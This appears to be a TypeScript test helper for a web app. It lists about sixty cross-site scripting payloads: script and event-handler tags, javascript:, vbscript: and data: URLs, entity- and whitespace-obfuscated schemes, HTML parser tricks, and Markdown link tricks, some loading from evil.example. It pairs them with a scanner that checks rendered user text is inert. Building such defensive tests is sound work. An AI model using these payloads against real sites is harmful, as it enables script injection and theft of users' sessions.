/* eslint-disable no-script-url -- script URLs are what is tested */
/**
 * Cross-site scripting payloads, and a check that a rendered DOM is inert.
 *
 * Every payload goes where a person can type text: Markdown (descriptions,
 * release note bodies), links (migration guides, contact channels,
 * stakeholder contacts) and plain text. Each payload that could run code
 * calls `alert` and sets `window.__xss`; a test fails if either happens.
 */

/** The global the payloads set when they run. */
export const XSS_FLAG = '__xss';

const RUN = `window.${XSS_FLAG}=1;alert(1)`;
/** `<script>alert(1)</script>`, base64: a document in a data: URL. */
const HTML_DOCUMENT_BASE64 = 'PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==';
/** `<svg onload=alert(1)>`, base64: an image that is a document. */
const SVG_DOCUMENT_BASE64 = 'PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+';

/** One payload: a name for the test title, and the text a person types. */
export interface XssPayload {
  name: string;
  payload: string;
}

/** The corpus: raw HTML, Markdown links, bare URLs and parser tricks. */
export const XSS_CORPUS: readonly XssPayload[] = [
  // Raw HTML elements that run or load code.
  { name: 'script element', payload: `<script>${RUN}</script>` },
  {
    name: 'mixed-case script with src',
    payload: '<ScRiPt SRC=https://evil.example/x.js></sCrIpT>',
  },
  { name: 'img onerror', payload: `<img src=x onerror="${RUN}">` },
  { name: 'mixed-case img OnErRoR', payload: `<IMG SRC=x OnErRoR=${RUN}>` },
  { name: 'svg onload', payload: `<svg onload="${RUN}"></svg>` },
  { name: 'svg slash onload', payload: `<svg/onload=${RUN}>` },
  { name: 'script inside svg', payload: `<svg><script>${RUN}</script></svg>` },
  {
    name: 'iframe srcdoc',
    payload: `<iframe srcdoc="<script>parent.${XSS_FLAG}=1</script>"></iframe>`,
  },
  {
    name: 'iframe javascript: src',
    payload: `<iframe src="javascript:${RUN}"></iframe>`,
  },
  {
    name: 'object javascript: data',
    payload: `<object data="javascript:${RUN}"></object>`,
  },
  {
    name: 'embed data:text/html src',
    payload: `<embed src="data:text/html;base64,${HTML_DOCUMENT_BASE64}">`,
  },
  {
    name: 'style element',
    payload:
      "<style>@import 'https://evil.example/x.css'; body { background: url(javascript:alert(1)) }</style>",
  },
  {
    name: 'style attribute with javascript: url',
    payload: '<div style="background:url(javascript:alert(1))">styled</div>',
  },
  {
    name: 'form action and button formaction',
    payload: `<form action="javascript:${RUN}"><button formaction="javascript:${RUN}">go</button></form>`,
  },
  {
    name: 'input autofocus onfocus',
    payload: `<input autofocus onfocus=${RUN}>`,
  },
  {
    name: 'details ontoggle',
    payload: `<details open ontoggle="${RUN}"><summary>more</summary></details>`,
  },
  { name: 'body onload', payload: `<body onload="${RUN}">` },
  {
    name: 'math with xlink:href',
    payload: `<math><maction actiontype="statusline" xlink:href="javascript:${RUN}">math</maction></math>`,
  },
  {
    name: 'svg anchor with xlink:href',
    payload: `<svg><a xlink:href="javascript:${RUN}"><text x="0" y="20">svg link</text></a></svg>`,
  },
  {
    name: 'meta refresh to javascript:',
    payload: `<meta http-equiv="refresh" content="0;url=javascript:${RUN}">`,
  },
  { name: 'base href', payload: '<base href="javascript:alert(1)//">' },
  {
    name: 'link stylesheet',
    payload: '<link rel="stylesheet" href="https://evil.example/x.css">',
  },
  // Raw HTML anchors.
  { name: 'anchor javascript:', payload: `<a href="javascript:${RUN}">a1</a>` },
  {
    name: 'anchor decimal entities',
    payload: `<a href="&#106;avascript:${RUN}">a2</a>`,
  },
  {
    name: 'anchor hex entities',
    payload:
      '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">a3</a>',
  },
  {
    name: 'anchor named entities &colon; and &Tab;',
    payload: '<a href="java&Tab;script&colon;alert(1)">a4</a>',
  },
  {
    name: 'anchor leading control character',
    payload: '<a href=" &#14; javascript:alert(1)">a5</a>',
  },
  { name: 'anchor vbscript:', payload: '<a href="vbscript:msgbox(1)">a6</a>' },
  {
    name: 'anchor data:text/html',
    payload: `<a href="data:text/html;base64,${HTML_DOCUMENT_BASE64}">a7</a>`,
  },
  {
    name: 'anchor event handlers',
    payload: `<a href="https://example.com" onclick="${RUN}" onmouseover="${RUN}">a8</a>`,
  },
  // HTML parser tricks.
  {
    name: 'comment broken out of',
    payload: `<!--><img src=x onerror="${RUN}">-->`,
  },
  {
    name: 'comment closed with --!>',
    payload: `<!-- --!><img src=x onerror="${RUN}"> -->`,
  },
  {
    name: 'noscript mutation',
    payload: `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  },
  {
    name: 'attribute breakout',
    payload: `"><img src=x onerror=${RUN}>`,
  },
  {
    name: 'template content',
    payload: `<template><img src=x onerror="${RUN}"></template>`,
  },
  // Markdown links and images.
  { name: 'markdown javascript: link', payload: `[m1](javascript:${RUN})` },
  { name: 'markdown mixed-case link', payload: '[m2](jAvAsCrIpT:alert(1))' },
  {
    name: 'markdown link with a tab in the scheme',
    payload: '[m3](<java\tscript:alert(1)>)',
  },
  {
    name: 'markdown link with an entity tab',
    payload: '[m4](java&#x09;script:alert(1))',
  },
  {
    name: 'markdown link with entity-encoded scheme',
    payload: '[m5](&#106;avascript&#58;alert(1))',
  },
  { name: 'markdown vbscript: link', payload: '[m6](vbscript:msgbox(1))' },
  {
    name: 'markdown data:text/html link',
    payload: `[m7](data:text/html;base64,${HTML_DOCUMENT_BASE64})`,
  },
  {
    name: 'markdown reference link',
    payload: '[m8][evil]\n\n[evil]: javascript:alert(1)',
  },
  {
    name: 'markdown link title breakout',
    payload: `[m9](https://example.com "t\\" onmouseover=\\"${RUN}")`,
  },
  { name: 'markdown javascript: autolink', payload: '<javascript:alert(1)>' },
  { name: 'markdown vbscript: autolink', payload: '<vbscript:msgbox(1)>' },
  {
    name: 'markdown data: autolink',
    payload: `<data:text/html;base64,${HTML_DOCUMENT_BASE64}>`,
  },
  {
    name: 'markdown image javascript: src',
    payload: '![i1](javascript:alert(1))',
  },
  {
    name: 'markdown image svg data: src',
    payload: `![i2](data:image/svg+xml;base64,${SVG_DOCUMENT_BASE64})`,
  },
  {
    name: 'markdown code block of HTML',
    payload: `\`\`\`html\n<script>${RUN}</script>\n\`\`\``,
  },
  // Links with schemes MarkdownContent lets through but no page opens.
  { name: 'markdown irc: link', payload: '[m10](irc://irc.example.com/ci)' },
  { name: 'markdown xmpp: link', payload: '[m11](xmpp:ci@example.com)' },
  // Bare URLs, as they arrive in link fields.
  { name: 'bare javascript: URL', payload: `javascript:${RUN}` },
  { name: 'bare mixed-case URL', payload: 'JaVaScRiPt:alert(1)' },
  { name: 'bare URL with leading spaces', payload: '   javascript:alert(1)' },
  {
    name: 'bare URL with a leading control character',
    payload: '\u0001javascript:alert(1)',
  },
  { name: 'bare URL with a tab', payload: 'java\tscript:alert(1)' },
  { name: 'bare URL with a newline', payload: 'java\nscript:alert(1)' },
  { name: 'bare vbscript: URL', payload: 'vbscript:msgbox(1)' },
  {
    name: 'bare data:text/html URL',
    payload: 'data:text/html,<script>alert(1)</script>',
  },
  {
    name: 'http URL with an HTML breakout',
    payload: `https://example.com/"><script>${RUN}</script>`,
  },
];

/** Elements no user text may bring into the page. */
const FORBIDDEN_ELEMENTS = [
  'script',
  'iframe',
  'frame',
  'frameset',
  'object',
  'embed',
  'applet',
  'form',
  'style',
  'base',
  'meta',
  'link',
  'noscript',
];

/** Attributes a browser follows or submits to. */
const URL_ATTRIBUTES = [
  'href',
  'src',
  'xlink:href',
  'action',
  'formaction',
  'data',
  'srcdoc',
  'background',
  'poster',
];

/** Schemes that run code or open a document of their own. */
const UNSAFE_SCHEMES = ['javascript', 'vbscript', 'data'];

const decoder = document.createElement('textarea');

/** Decodes HTML entities (`&#106;`, `&colon;`), however they are written. */
function decodeEntities(value: string): string {
  // A textarea's content is text only: no element is ever created from it.
  decoder.innerHTML = value;
  return decoder.value;
}

/**
 * The scheme a browser could read in a URL, lower-case: entities decoded,
 * then whitespace and control characters removed (browsers skip tabs and
 * newlines anywhere in a URL).
 */
export function schemeOf(value: string): string | undefined {
  const normalized = decodeEntities(value).replace(
    // eslint-disable-next-line no-control-regex
    /[\u0000-\u0020\u007f-\u00a0\u1680\u2000-\u200f\u2028\u2029\u202f\u205f\u3000\ufeff]/g,
    '',
  );
  return /^([a-z][a-z0-9+.-]*):/i.exec(normalized)?.[1].toLowerCase();
}

/** Whether a URL would run code or open a document of its own. */
export function isUnsafeUrl(value: string): boolean {
  const scheme = schemeOf(value);
  return scheme !== undefined && UNSAFE_SCHEMES.includes(scheme);
}

function tagOf(element: Element): string {
  return `<${element.tagName.toLowerCase()}>`;
}

/**
 * Everything in the DOM under `root` that could run code, as readable
 * strings; empty when it is inert.
 */
export function findDangers(root: Element): string[] {
  const found: string[] = [];
  for (const element of root.querySelectorAll(FORBIDDEN_ELEMENTS.join(','))) {
    found.push(`${tagOf(element)} element`);
  }
  for (const element of [root, ...root.querySelectorAll('*')]) {
    for (const { name, value } of Array.from(element.attributes)) {
      const attribute = name.toLowerCase();
      if (attribute.startsWith('on')) {
        found.push(`${name} on ${tagOf(element)}`);
      } else if (URL_ATTRIBUTES.includes(attribute) && isUnsafeUrl(value)) {
        found.push(`${name}="${value}" on ${tagOf(element)}`);
      } else if (
        attribute === 'style' &&
        /url\s*\(|expression\s*\(|javascript:/i.test(decodeEntities(value))
      ) {
        found.push(`style="${value}" on ${tagOf(element)}`);
      }
    }
  }
  return found;
}

/**
 * Fires `load` and `error` at every element under `root`, as a browser
 * would for images and frames (jsdom loads none): an inline handler that
 * slipped through then runs and sets the flag.
 */
export function fireLoadEvents(root: Element) {
  for (const element of [root, ...root.querySelectorAll('*')]) {
    element.dispatchEvent(new Event('load'));
    element.dispatchEvent(new Event('error'));
  }
}
